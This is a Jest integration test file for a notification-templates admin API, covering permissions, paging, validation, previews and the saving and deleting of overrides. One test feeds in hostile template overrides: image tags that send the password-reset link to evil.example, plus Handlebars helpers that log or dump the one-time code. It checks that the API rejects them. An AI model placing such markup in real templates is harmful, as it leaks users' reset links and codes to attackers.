import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { TEMPLATE_KEYS } from '../domain/templates/catalogue.ts';
import { type HttpHarness, startHttpHarness } from './http.test-support.ts';

let h: HttpHarness;
let admin: string;

beforeAll(async () => {
  h = await startHttpHarness();
  admin = h.userToken(crypto.randomUUID(), ['templates:write']);
}, 60_000);

afterAll(async () => {
  await h?.stop();
});

interface Summary {
  key: string;
  locale: string;
  overridden: boolean;
}

async function overrides() {
  return h.db.selectFrom('template_overrides').select(['key', 'locale', 'content']).execute();
}

const VALID = {
  subject: 'Confirme seu endereço, {{name}}',
  text: 'Olá {{name}}, abra {{link}} para confirmar.',
};

describe('templates admin API', () => {
  it('needs templates:write', async () => {
    expect((await h.request('GET', '/v1/templates')).status).toBe(401);
    const reader = h.userToken(crypto.randomUUID(), ['notifications:read']);
    expect((await h.request('GET', '/v1/templates', { token: reader })).status).toBe(403);
    const put = await h.request('PUT', '/v1/templates/password-reset/en', { token: reader, body: VALID });
    expect(put.status).toBe(403);
    expect(await overrides()).toEqual([]);
  });

  it('lists every key in every shipped locale, page by page', async () => {
    const seen: Summary[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const query: string = cursor === null ? '?limit=7' : `?limit=7&cursor=${cursor}`;
      const res = await h.request('GET', `/v1/templates${query}`, { token: admin });
      expect(res.status).toBe(200);
      const page = (await res.json()) as { items: Summary[]; next_cursor: string | null };
      expect(page.items.length).toBeLessThanOrEqual(7);
      seen.push(...page.items);
      cursor = page.next_cursor;
      pages += 1;
    } while (cursor !== null && pages < 50);
    const keys = new Set(seen.map((s) => s.key));
    expect([...keys].sort()).toEqual([...TEMPLATE_KEYS].sort());
    expect(new Set(seen.map((s) => `${s.key} ${s.locale}`)).size).toBe(seen.length);
    expect(seen.some((s) => s.locale === 'en')).toBe(true);
    expect((await h.request('GET', '/v1/templates?limit=201', { token: admin })).status).toBe(400);
    expect((await h.request('GET', '/v1/templates?cursor=%25%25', { token: admin })).status).toBe(400);
  });

  it('reads a template with its shipped sources', async () => {
    const res = await h.request('GET', '/v1/templates/email-verification/en', { token: admin });
    expect(res.status).toBe(200);
    const view = (await res.json()) as Record<string, unknown>;
    expect(view).toMatchObject({
      key: 'email-verification',
      locale: 'en',
      channels: ['email'],
      category: 'transactional',
      overridden: false,
      override: null,
    });
    expect((view.shipped as { subject: string }).subject.length).toBeGreaterThan(0);
    expect(view.fields).toEqual(expect.arrayContaining(['link', 'expires_at']));
  });

  it('answers 404 for an unknown key or a locale that is not shipped', async () => {
    expect((await h.request('GET', '/v1/templates/nope/en', { token: admin })).status).toBe(404);
    expect((await h.request('GET', '/v1/templates/password-reset/fr', { token: admin })).status).toBe(404);
    expect(
      (await h.request('PUT', '/v1/templates/password-reset/fr', { token: admin, body: VALID })).status,
    ).toBe(404);
    expect(await overrides()).toEqual([]);
  });

  it('refuses an override that does not render, or drops the link, and saves nothing', async () => {
    for (const body of [
      { subject: 'Hi {{#if name}}unclosed' },
      { text: 'Hello {{name}}, {{nope_helper link}}' },
      { text: 'Confirm your address (no link here)' },
      {
        mjml: '<mj-section><mj-column><mj-text>x</mj-text></mj-column></mj-section>',
        html: '<p>{{link}}</p>',
      },
      { sms: 'Your code' },
    ]) {
      const res = await h.request('PUT', '/v1/templates/email-verification/en', { token: admin, body });
      expect([JSON.stringify(body), res.status]).toEqual([JSON.stringify(body), 400]);
      const problem = (await res.json()) as { code: string; errors: unknown[] };
      expect(problem.code).toBe('template_invalid');
      expect(problem.errors.length).toBeGreaterThan(0);
    }
    for (const body of [{}, { subject: 'x', footer: 'y' }, { subject: '' }]) {
      const res = await h.request('PUT', '/v1/templates/email-verification/en', { token: admin, body });
      expect(res.status).toBe(400);
    }
    expect(await overrides()).toEqual([]);
  });

  it('refuses an override that would leak the secret link or code, and saves nothing', async () => {
    const section = (inner: string) => `<mj-section><mj-column>${inner}</mj-column></mj-section>`;
    const attempts: [string, Record<string, string>, RegExp][] = [
      [
        'password-reset',
        {
          mjml: section(
            '<mj-button href="{{link}}">Reset</mj-button><mj-image src="https://evil.example/p.png?x={{link}}" />',
          ),
        },
        /"src" attribute of <img>/,
      ],
      [
        'password-reset',
        {
          html: '<html><body><a href="{{link}}">Reset</a><img src="https://evil.example/q?x={{link}}"></body></html>',
        },
        /"src" attribute of <img>/,
      ],
      ['password-reset', { subject: 'Reset {{link}}' }, /may not be in the subject/],
      ['otp-code', { sms: '{{code}} {{log code}}' }, /"log" helper is not allowed/],
      ['otp-code', { sms: '{{code}} {{#each this}}{{this}}{{/each}}' }, /whole data object/],
    ];
    for (const [key, body, expected] of attempts) {
      const res = await h.request('PUT', `/v1/templates/${key}/en`, { token: admin, body });
      expect([JSON.stringify(body), res.status]).toEqual([JSON.stringify(body), 400]);
      const problem = (await res.json()) as { code: string; errors: { detail: string }[] };
      expect(problem.code).toBe('template_invalid');
      expect(problem.errors.map((e) => e.detail).join('\n')).toMatch(expected);
    }
    expect(await overrides()).toEqual([]);
  });

  it('saves a valid override, previews with it, and removes it', async () => {
    const put = await h.request('PUT', '/v1/templates/email-verification/en', { token: admin, body: VALID });
    expect(put.status).toBe(200);
    expect(await put.json()).toMatchObject({ overridden: true, override: VALID });
    expect(await overrides()).toEqual([{ key: 'email-verification', locale: 'en', content: VALID }]);

    const preview = await h.request('POST', '/v1/templates/email-verification/en/preview', {
      token: admin,
      body: { data: { name: 'Grace <b>' } },
    });
    expect(preview.status).toBe(200);
    const rendered = (await preview.json()) as {
      email: { subject: string; text: string; html: string };
      sms: null;
    };
    expect(rendered.email.subject).toBe('Confirme seu endereço, Grace <b>');
    expect(rendered.email.text).toContain('Olá Grace <b>, abra https://');
    expect(rendered.email.html).not.toContain('Grace <b>');
    expect(rendered.sms).toBeNull();

    // A proposed override is previewed without being saved.
    const proposed = await h.request('POST', '/v1/templates/email-verification/en/preview', {
      token: admin,
      body: { override: { subject: 'Proposed {{name}}' } },
    });
    expect(((await proposed.json()) as { email: { subject: string } }).email.subject).toMatch(/^Proposed /);
    expect(await overrides()).toEqual([{ key: 'email-verification', locale: 'en', content: VALID }]);

    expect((await h.request('DELETE', '/v1/templates/email-verification/en', { token: admin })).status).toBe(
      204,
    );
    expect(await overrides()).toEqual([]);
    expect((await h.request('DELETE', '/v1/templates/email-verification/en', { token: admin })).status).toBe(
      404,
    );
  });

  it('previews SMS templates', async () => {
    const res = await h.request('POST', '/v1/templates/otp-code/en/preview', { token: admin, body: {} });
    expect(res.status).toBe(200);
    const rendered = (await res.json()) as { email: unknown; sms: { text: string } };
    expect(rendered.sms.text).toMatch(/\d{4,10}/);
    expect(rendered.email).not.toBeNull();
  });
});
